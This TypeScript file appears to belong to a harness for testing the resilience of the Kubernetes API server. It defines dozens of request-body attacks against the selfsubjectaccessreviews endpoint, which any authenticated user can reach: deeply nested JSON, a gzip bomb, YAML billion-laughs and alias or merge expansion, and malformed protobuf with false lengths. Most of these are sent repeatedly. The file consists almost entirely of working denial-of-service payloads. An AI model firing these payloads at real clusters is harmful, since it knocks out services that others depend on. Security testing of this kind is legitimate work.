import { gzipSync } from 'node:zlib'
import type { Attack } from '../attack.ts'
import { requests } from '../client.ts'

/** Anybody who has logged in may post here. */
const REVIEW = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews'
const LIMIT = 3 << 20

const body = (
  name: string,
  make: () => Buffer | string,
  o: { times?: number; contentType?: string; headers?: Record<string, string> } = {},
): Attack =>
  requests(`bodies/${name}`, (arena) => {
    const made = make()
    const ask = { method: 'POST', path: REVIEW, body: made, contentType: o.contentType, headers: o.headers }
    return Array.from({ length: arena.times(o.times ?? 1) }, () => ask)
  })

const YAML = { contentType: 'application/yaml' }
const PROTOBUF = { contentType: 'application/vnd.kubernetes.protobuf' }
const list = (n: number, each: (i: number) => string, between = ','): string => Array.from({ length: n }, (_, i) => each(i)).join(between)
const review = (fields: string): string => `{"kind":"SelfSubjectAccessReview","apiVersion":"authorization.k8s.io/v1","spec":{${fields}}}`
/** A protobuf envelope (`k8s\0`, runtime.Unknown) around an object whose bytes are `raw`. */
function envelope(raw: Buffer): Buffer {
  const field = (n: number, bytes: Buffer): Buffer => {
    const size: number[] = []
    let rest = bytes.length
    for (; rest >= 128; rest >>>= 7) size.push((rest & 127) | 128)
    return Buffer.concat([Buffer.from([(n << 3) | 2, ...size, rest]), bytes])
  }
  const meta = Buffer.concat([field(1, Buffer.from('authorization.k8s.io/v1')), field(2, Buffer.from('SelfSubjectAccessReview'))])
  return Buffer.concat([Buffer.from('k8s\0'), field(1, meta), field(2, raw)])
}

const json: readonly Attack[] = [
  body('100,000 levels of JSON', () => `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`, { times: 10 }),
  body('1,000,000 brackets', () => '['.repeat(1_000_000), { times: 10 }),
  body('3 MiB and one byte', () => Buffer.alloc(LIMIT + 1, 0x20), { times: 20 }),
  body('3 MiB of spaces', () => Buffer.alloc(LIMIT - 10, 0x20), { times: 20 }),
  body('50,000 duplicate fields', () => review(list(50_000, () => '"a":1')), { times: 5 }),
  body('120,000 unknown fields', () => review(list(120_000, (i) => `"a${i}":1`)), { times: 5 }),
  body('a number of 2.9 MB', () => review(`"resourceAttributes":{"name":${'9'.repeat(2_900_000)}}`), { times: 5 }),
  body('a name of 2.9 MB', () => review(`"resourceAttributes":{"name":"${'n'.repeat(2_900_000)}"}`), { times: 5 }),
  body('a key of 2.9 MB', () => review(`"${'k'.repeat(2_900_000)}":1`), { times: 5 }),
  body('escapes', () => review(`"resourceAttributes":{"name":"${'\\u00e9\\ud83d'.repeat(200_000)}"}`), { times: 5 }),
  body('500,000 extras', () => review(`"nonResourceAttributes":{"path":"/"},"extra":{${list(150_000, (i) => `"k${i}":["v"]`)}}`), {
    times: 3,
  }),
  body('gzip, 600 MB in 0.6', () => gzipSync(Buffer.alloc(600 << 20, 0x20)), { times: 5, headers: { 'content-encoding': 'gzip' } }),
  body('a content type of 60 KB', () => '{}', { times: 100, contentType: `application/json;${'a=b;'.repeat(15_000)}` }),
]

const yaml: readonly Attack[] = [
  body('YAML: 2.9 MB of a list', () => '- a\n'.repeat(725_000), YAML),
  body('YAML: 900 aliases of 700,000', () => `a: &a [${'0,'.repeat(699_999)}0]\nb: [${'*a,'.repeat(900)}]`, YAML),
  body('YAML: aliases, 198 KB', () => `a: &a [${'0,'.repeat(97_000)}0]\nb: [${'*a,'.repeat(900)}]`, YAML),
  body(
    'YAML: a billion laughs',
    () => `a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n${list(12, (i) => `a${i + 1}: &a${i + 1} [${list(10, () => `*a${i}`)}]`, '\n')}\n`,
    { ...YAML, times: 10 },
  ),
  body(
    'YAML: 900 merges of 3,000',
    () => `z: &z {${list(3000, (i) => `k${i}: 1`)}}\nm:\n${list(900, (i) => `- {<<: *z, n: ${i}}`, '\n')}\n`,
    YAML,
  ),
  body(
    'YAML: merges of merges',
    () => `m0: &m0 {a: 1}\n${list(5000, (i) => `m${i + 1}: &m${i + 1} {<<: *m${i}, k${i}: 1}`, '\n')}\n`,
    YAML,
  ),
  body('YAML: 100,000 equal keys', () => 'a: 1\n'.repeat(100_000), YAML),
  body('YAML: 100,000 brackets', () => '['.repeat(100_000), YAML),
  body('YAML: 10,000 levels', () => `${'['.repeat(10_000)}${']'.repeat(10_000)}`, { ...YAML, times: 5 }),
  body('YAML: levels by indentation', () => list(1700, (i) => `${' '.repeat(i)}a:`, '\n'), { ...YAML, times: 3 }),
  body('YAML: anchors', () => list(100_000, (i) => `- &a${i} x`, '\n'), YAML),
  body('YAML: question marks', () => '? '.repeat(100_000), YAML),
  body('YAML: a string of 2.9 MB', () => `a: "${'\\x41'.repeat(700_000)}"\n`, YAML),
  body('YAML: a block of 2.9 MB', () => `a: |\n${' x\n'.repeat(950_000)}`, YAML),
  body('YAML: comments', () => '#\n'.repeat(1_400_000), YAML),
  body('YAML: documents', () => '---\n'.repeat(700_000), YAML),
  body('YAML: numbers', () => `- ${'9'.repeat(500_000)}\n- ${'1_'.repeat(250_000)}1\n- 1e${'9'.repeat(200_000)}\n`, YAML),
]

const protobuf: readonly Attack[] = [
  body('protobuf: 1,000,000 empty messages', () => envelope(Buffer.alloc(2_000_000, Buffer.from([0x12, 0]))), { ...PROTOBUF, times: 5 }),
  body(
    'protobuf: 700,000 empty strings',
    () => envelope(Buffer.concat([Buffer.from([0x0a, 0xc0, 0xdc, 0x55]), Buffer.alloc(1_400_000, Buffer.from([0x72, 0]))])),
    { ...PROTOBUF, times: 3 },
  ),
  body('protobuf: unknown fields', () => envelope(Buffer.alloc(2_900_000, Buffer.from([0xf8, 0x07, 0x01]))), { ...PROTOBUF, times: 5 }),
  body('protobuf: lengths that lie', () => envelope(Buffer.from('12ffffffffffffffff7f', 'hex')), { ...PROTOBUF, times: 100 }),
]

export const bodies: readonly Attack[] = [...json, ...yaml, ...protobuf]
